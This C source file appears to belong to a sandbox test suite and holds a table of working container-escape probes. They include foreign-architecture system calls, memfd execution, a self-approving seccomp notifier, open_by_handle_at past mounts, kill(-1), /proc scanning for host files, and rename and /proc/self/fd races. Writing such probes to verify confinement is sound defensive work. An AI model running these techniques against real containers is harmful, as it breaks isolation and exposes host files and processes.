/* SPDX-License-Identifier: Apache-2.0
 *
 * Attacks on the walls of the container: foreign system call numbers, file handles, filters of the
 * program's own, other processes in /proc, exchanges of directory and link for races.
 */
#include "attacker.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Run in a child, since the call may kill; prints the signal or the error. */
static int outcome_of_child(pid_t child)
{
    int status;

    if (child < 0 || waitpid(child, &status, 0) < 0)
        return outcome(-1);
    if (WIFSIGNALED(status)) {
        printf("SIG%s\n", sigabbrev_np(WTERMSIG(status)));
        return 1;
    }
    errno = WEXITSTATUS(status);
    return outcome(errno ? -1 : 0);
}

#ifdef __x86_64__
static long call_i386(long number, long first, long second)
{
    long result;

    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(first), "c"(second)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}
#else
static long call_i386(long number, long first, long second)
{
    (void)number, (void)first, (void)second;
    return -ENOSYS;
}
#endif

/* The i386 number and up to two arguments. */
static int attack_i386(char **arguments)
{
    pid_t child = fork();

    if (child == 0) {
        long result = call_i386(number_or(arguments[0], 20), number_or(arguments[1], 0), 0);

        _exit(result < 0 && result > -4096 ? (int)-result : 0);
    }
    return outcome_of_child(child);
}

static int attack_x32(char **arguments)
{
    pid_t child = fork();

    if (child == 0)
        _exit(syscall(0x40000000L | number_or(arguments[0], SYS_getpid)) < 0 ? errno : 0);
    return outcome_of_child(child);
}

static void *set_flag(void *flag)
{
    *(int *)flag = 1;
    return NULL;
}

static int attack_thread(char **arguments)
{
    int flag = 0;
    pthread_t thread;

    (void)arguments;
    errno = pthread_create(&thread, NULL, set_flag, &flag);
    if (errno)
        return outcome(-1);
    pthread_join(thread, NULL);
    return outcome(flag ? 0 : -1);
}

/* Execute a copy of a program that no file system has. */
static int attack_memfd(char **arguments)
{
    int from = open(arguments[0], O_RDONLY | O_CLOEXEC);
    int memory = memfd_create("program", MFD_CLOEXEC);
    char text[1 << 16];
    ssize_t n;

    while ((n = read(from, text, sizeof(text))) > 0)
        if (write(memory, text, (size_t)n) != n)
            return outcome(-1);
    syscall(SYS_execveat, memory, "", arguments, NULL, AT_EMPTY_PATH);
    return outcome(-1);
}

/* Install a filter that hands unshare() to a listener, and answer "let it through" as the listener.
 */
static int attack_notify(char **arguments)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };
    struct seccomp_notif request = { 0 };
    struct seccomp_notif_resp response = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
    struct pollfd wait;
    int listener;
    pid_t child;

    (void)arguments;
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER,
                            &program);
    if (listener < 0)
        return outcome(-1);
    child = fork();
    wait = (struct pollfd){ .fd = listener, .events = POLLIN };
    if (child == 0)
        _exit(syscall(SYS_unshare, CLONE_NEWUSER) < 0 ? errno : 0);
    /* There is no request if the call was denied. */
    if (poll(&wait, 1, 2000) == 1 && ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) == 0) {
        response.id = request.id;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &response);
    }
    return outcome_of_child(child);
}

/* Open PATH of the file system that "/" is on by its inode number, past every mount. */
static int attack_handle(char **arguments)
{
    struct {
        struct file_handle handle;
        unsigned inode, generation;
    } root = { { 8, 1 }, 2, 0 };
    int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int top = (int)syscall(SYS_open_by_handle_at, here, &root, O_RDONLY | O_DIRECTORY);

    if (top < 0)
        return outcome(-1);
    return outcome(openat(top, arguments[0] + 1, O_RDONLY | O_CLOEXEC));
}

static int attack_unlock_privileges(char **arguments)
{
    (void)arguments;
    if (prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0)
        return outcome(0);
    return outcome(-1);
}

static int attack_signal_all(char **arguments)
{
    (void)arguments;
    signal(SIGTERM, SIG_IGN);
    return outcome(kill(-1, SIGTERM));
}

/* Does a link of /proc/N lead to where the container's own files are? */
static int is_own(const char *target)
{
    static const char *const own[] = { "/bin/",      "/dev/", "/tmp",  "pipe:", "socket:",
                                       "anon_inode", "/proc", "/home", "/usr",  "(deleted" };

    if (!strcmp(target, "/"))
        return 1;
    for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
        if (!strncmp(target, own[i], strlen(own[i])))
            return 1;
    return 0;
}

/* What one process shows: 1 for each descriptor above 2, or a link that leads out of here. */
static int look_at(const char *pid, const char *marker)
{
    static const char *const links[] = { "exe",  "fd/0", "fd/1", "fd/2", "fd/3",  "fd/4", "fd/5",
                                         "fd/6", "fd/7", "fd/8", "fd/9", "fd/10", "fd/11" };
    char path[512], target[4096];
    int found = 0;

    for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
        ssize_t n;

        snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
        n = readlink(path, target, sizeof(target) - 1);
        if (n < 0)
            continue;
        target[n] = '\0';
        if (i > 3 || (i == 0 && !is_own(target))) {
            printf("%s -> %s\n", path, target);
            found++;
        }
    }
    snprintf(path, sizeof(path), "/proc/%s/root%s", pid, marker);
    if (access(path, F_OK) == 0) {
        printf("%s is there\n", path);
        found++;
    }
    return found;
}

/*
 * Look at every other process until the file STOP is there; MARKER is a file that only the host
 * has. The count of processes seen is printed, so that the test knows that there was something.
 */
static int attack_watch(char **arguments)
{
    const char *stop = arguments[0], *marker = arguments[1];
    int found = 0, last = 0;
    long seen = 0;
    char own[16];

    snprintf(own, sizeof(own), "%d", getpid());
    puts("watching");
    while (access(stop, F_OK) && found < 20) {
        DIR *stream = opendir("/proc");
        struct dirent *entry;

        while (stream && (entry = readdir(stream))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own) ||
                !strcmp(entry->d_name, "1"))
                continue;
            if (atoi(entry->d_name) != last)
                seen++;
            last = atoi(entry->d_name);
            found += look_at(entry->d_name, marker);
        }
        closedir(stream);
    }
    printf("seen %ld found %d\n", seen, found);
    return found == 0;
}

/* Exchange two names again and again until the file STOP is there. */
static int attack_exchange(char **arguments)
{
    long count = 0;

    while (access(arguments[2], F_OK)) {
        if (renameat2(AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], RENAME_EXCHANGE))
            return outcome(-1);
        count++;
    }
    printf("%ld exchanges\n", count);
    return 0;
}

/* Hold a file open for reading, and try to open it for writing through /proc until STOP is there.
 */
static int attack_overwrite(char **arguments)
{
    char path[64];
    int fd = open(arguments[0], O_PATH | O_CLOEXEC), written = -1;

    if (fd < 0)
        return outcome(-1);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (long i = 0; written < 0 && i < number_or(arguments[1], 1000); i++) {
        written = open(path, O_WRONLY | O_CLOEXEC);
        if (written < 0 && errno == ETXTBSY)
            usleep(1000);
    }
    return outcome(written);
}

const struct attack escapes[] = {
    { "i386", attack_i386 },
    { "x32", attack_x32 },
    { "thread", attack_thread },
    { "memfd", attack_memfd },
    { "notify", attack_notify },
    { "handle", attack_handle },
    { "unlock-privileges", attack_unlock_privileges },
    { "signal-all", attack_signal_all },
    { "watch", attack_watch },
    { "exchange", attack_exchange },
    { "overwrite", attack_overwrite },
    { NULL, NULL },
};
